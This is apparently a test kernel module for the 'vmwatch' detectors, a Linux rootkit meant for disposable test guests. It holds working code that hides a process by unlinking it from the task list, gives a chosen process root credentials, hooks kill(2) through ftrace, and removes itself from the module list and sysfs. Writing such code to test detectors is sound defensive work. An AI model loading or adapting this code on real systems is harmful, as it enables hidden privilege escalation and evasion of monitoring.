// SPDX-License-Identifier: GPL-2.0
/*
 * vmw_rootkit: a test rootkit for vmwatch's detectors. FOR TEST GUESTS ONLY.
 *
 * On load it does what kernel rootkits do, each behind a parameter:
 *   hide_pid=N   unlink process N from the task list (tools that walk the
 *                task list no longer see it)
 *   root_pid=N   give process N root credentials
 *   hook=1       hook kill(2) through ftrace, with a callback in this module
 *   hide_self=1  unlink this module from the module list and from sysfs
 *
 * It takes no locks it cannot take from a module (tasklist_lock is not
 * exported) and never unloads cleanly once hidden: use it in disposable
 * test guests only.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/pid.h>
#include <linux/cred.h>
#include <linux/rculist.h>
#include <linux/ftrace.h>
#include <linux/kobject.h>

static int hide_pid;
module_param(hide_pid, int, 0);
static int root_pid;
module_param(root_pid, int, 0);
static bool hook;
module_param(hook, bool, 0);
static bool hide_self;
module_param(hide_self, bool, 0);

static unsigned long kill_calls;

/* The ftrace callback: called on every kill(2). A real rootkit would read
 * the arguments here (a "magic" signal that grants root); this one counts. */
static void notrace vmw_kill_hook(unsigned long ip, unsigned long parent_ip,
				  struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	kill_calls++;
}

static struct ftrace_ops vmw_ops = {
	.func = vmw_kill_hook,
	.flags = FTRACE_OPS_FL_RECURSION,
};

static struct task_struct *task_of(int nr)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(nr), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	return t;
}

static int __init vmw_init(void)
{
	struct task_struct *t;
	int err;

	if (root_pid) {
		struct cred *c;

		t = task_of(root_pid);
		if (!t)
			return -ESRCH;
		c = prepare_creds();	/* a copy of insmod's (root) credentials */
		if (!c) {
			put_task_struct(t);
			return -ENOMEM;
		}
		get_cred(c);
		rcu_assign_pointer(t->real_cred, c);
		rcu_assign_pointer(t->cred, c);
		put_task_struct(t);
		pr_info("vmw_rootkit: process %d is root now\n", root_pid);
	}
	if (hook) {
		err = ftrace_set_filter(&vmw_ops, "__x64_sys_kill", strlen("__x64_sys_kill"), 0);
		if (!err)
			err = register_ftrace_function(&vmw_ops);
		if (err) {
			pr_err("vmw_rootkit: ftrace hook failed: %d\n", err);
			return err;
		}
		pr_info("vmw_rootkit: kill(2) hooked through ftrace\n");
	}
	if (hide_pid) {
		t = task_of(hide_pid);
		if (!t)
			return -ESRCH;
		list_del_init(&t->tasks);
		put_task_struct(t);
		pr_info("vmw_rootkit: process %d hidden\n", hide_pid);
	}
	if (hide_self) {
		list_del_init(&THIS_MODULE->list);
		kobject_del(&THIS_MODULE->mkobj.kobj);
	}
	return 0;
}

module_init(vmw_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmwatch test rootkit (test guests only)");
